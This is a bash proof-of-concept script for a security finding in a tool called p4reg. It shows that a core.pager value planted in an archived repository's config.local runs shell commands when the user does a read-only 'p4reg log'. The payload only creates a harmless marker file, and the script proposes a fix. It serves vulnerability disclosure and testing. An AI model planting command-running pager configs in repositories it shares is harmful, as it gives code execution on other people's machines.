#!/usr/bin/env bash
# A repository delivered as an archive (tar/zip of someone's checkout, an
# rsync or `cp -a` of a colleague's folder, a container layer) keeps its
# untracked .p4reg/config.local; extracted by the user it is owned by them,
# mode 0600, not tracked by git -- so it is "trusted" (docs/security.md),
# and since today `core.pager` from it runs through /bin/sh on read-only
# commands: `p4reg log`, `show`, `list` on a terminal. (Git has the same
# class with .git/config; before the pager only `rollback`'s hook ran from
# config.local, an explicit lifecycle action.) Severity: low/medium, design.
# Suggested: take core.pager from the user's own config and the environment
# only (a pager is a per-user taste, not a per-repository setting).
# usage: P4REG_BIN=build/p4reg bash findings/pager_from_extracted_config_local.sh
set -u
: "${P4REG_BIN:?}"
T=$(mktemp -d); trap 'rm -rf "$T"' EXIT
export HOME=$T/home XDG_CONFIG_HOME=$T/home/.config P4REG_AUTHOR="t <t@x>"
mkdir -p "$HOME" "$T/evil" && cd "$T/evil" && git init -q . && "$P4REG_BIN" init >/dev/null
echo 1 >m.bin && "$P4REG_BIN" add -q m.bin
printf '[core]\n\tpager = touch %s/PWNED; cat\n' "$T" >.p4reg/config.local && chmod 600 .p4reg/config.local
git add -A >/dev/null 2>&1 && git -c user.name=e -c user.email=e@x commit -qm evil
cd "$T" && tar cf evil.tar evil && rm -rf evil && tar xf evil.tar && cd evil
# a terminal: script(1) gives one; the test knob does in Debug builds
P4REG_TEST_STDOUT_TTY=1 "$P4REG_BIN" log m >/dev/null 2>&1
[ -e "$T/PWNED" ] && echo "BUG: 'p4reg log' ran the archive's core.pager" || echo "ok: the pager was not run"
